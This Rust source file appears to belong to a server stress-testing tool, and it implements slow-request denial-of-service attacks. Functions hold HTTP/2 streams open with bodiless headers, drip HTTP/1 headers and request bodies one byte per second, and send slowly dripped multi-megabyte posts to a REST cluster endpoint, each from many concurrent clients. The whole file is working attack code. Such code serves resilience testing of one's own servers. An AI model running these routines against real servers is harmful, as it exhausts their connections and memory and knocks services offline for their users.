//! Attacks with requests that never end, or end slowly.

use std::time::Duration;

use anyhow::{Context, Result};
use tokio::{
    io::{AsyncRead, AsyncWrite, AsyncWriteExt},
    time::{interval, timeout},
};

use crate::{
    attacker::Attacker,
    http2::{Http2, Scheme, long_field},
    request::Request,
};

/// The limit of streams of one connection.
const STREAMS: usize = 128;

pub(super) fn heads_over_http2(attacker: &Attacker) {
    heads(attacker, 0);
}

pub(super) fn large_heads_over_http2(attacker: &Attacker) {
    heads(attacker, 3 * long_field().len());
}

/// Keeps all streams open with heads whose bodies never come. A head has so many bytes more than it needs.
fn heads(attacker: &Attacker, more: usize) {
    attacker.clients(140, move |attacker, number| async move {
        let mut http2 = Http2::open(attacker.http2(number).await?, Scheme::Https, &[]).await?;
        loop {
            let missing = STREAMS - http2.open_streams();
            attacker.requested(missing as u64);
            http2.heads(&attacker.post(), missing, more).await?;
            // Streams that the server ends are opened again a few times a second.
            let answers = async {
                loop {
                    let frame = http2.next_frame().await?;
                    attacker.answered(u64::from(frame.ends_stream()));
                }
            };
            if let Ok(ended) = timeout(Duration::from_millis(250), answers).await {
                return ended;
            }
        }
    });
}

/// Sends a byte each second until the server has enough of it.
async fn drip(mut io: impl AsyncRead + AsyncWrite + Unpin, bytes: impl Iterator<Item = u8>) -> Result<()> {
    let mut seconds = interval(Duration::from_secs(1));
    for byte in bytes {
        seconds.tick().await;
        io.write_all(&[byte]).await?;
        io.flush().await?;
    }
    Ok(())
}

pub(super) fn slow_heads(attacker: &Attacker) {
    attacker.clients(1100, async |attacker: Attacker, number| {
        let tls = attacker.http1(number).await?;
        attacker.requested(1);
        let head = attacker.post().http1_head(1 << 20);
        drip(tls, head.bytes().take(head.len() - 2)).await
    });
}

pub(super) fn dripped_bodies(attacker: &Attacker) {
    attacker.clients(1100, async |attacker: Attacker, number| dripped(&attacker, number, 0).await);
}

/// More than all memory for bodies, if it held them all.
pub(super) fn dripped_large_bodies(attacker: &Attacker) {
    attacker.clients(250, async |attacker: Attacker, number| dripped(&attacker, number, 3 << 19).await);
}

/// The head of a large body, these bytes of it at once, and then one each second.
async fn dripped(attacker: &Attacker, number: usize, at_once: usize) -> Result<()> {
    let mut tls = attacker.http1(number).await?;
    attacker.requested(1);
    tls.write_all(attacker.post().http1_head(6 << 20).as_bytes()).await?;
    tls.write_all(&vec![b' '; at_once]).await?;
    tls.flush().await?;
    drip(tls, std::iter::repeat(b' ')).await
}

/// Large clusters of the REST API, of which a byte comes each second after the first megabytes.
pub(super) fn dripped_clusters(attacker: &Attacker) {
    attacker.clients(24, async |attacker: Attacker, number| {
        let mut tcp = attacker.tcp(number, attacker.targets.rest.context("no REST API")?).await?;
        attacker.requested(1);
        tcp.write_all(Request::post("/v1/cluster", b"").http1_head(512 << 20).as_bytes()).await?;
        tcp.write_all(&vec![b' '; 12 << 20]).await?;
        drip(tcp, std::iter::repeat(b' ')).await
    });
}

/// Drips on all streams of HTTP/2 connections, a byte on each in turn.
pub(super) fn dripped_streams(attacker: &Attacker) {
    attacker.clients(60, async |attacker: Attacker, number| {
        let mut http2 = Http2::open(attacker.http2(number).await?, Scheme::Https, &[]).await?;
        let mut seconds = interval(Duration::from_secs(1));
        loop {
            let missing = STREAMS - http2.open_streams();
            attacker.requested(missing as u64);
            http2.heads(&attacker.post(), missing, 0).await?;
            http2.drip().await?;
            while let Ok(frame) = timeout(Duration::from_millis(100), http2.next_frame()).await {
                attacker.answered(u64::from(frame?.ends_stream()));
            }
            seconds.tick().await;
        }
    });
}
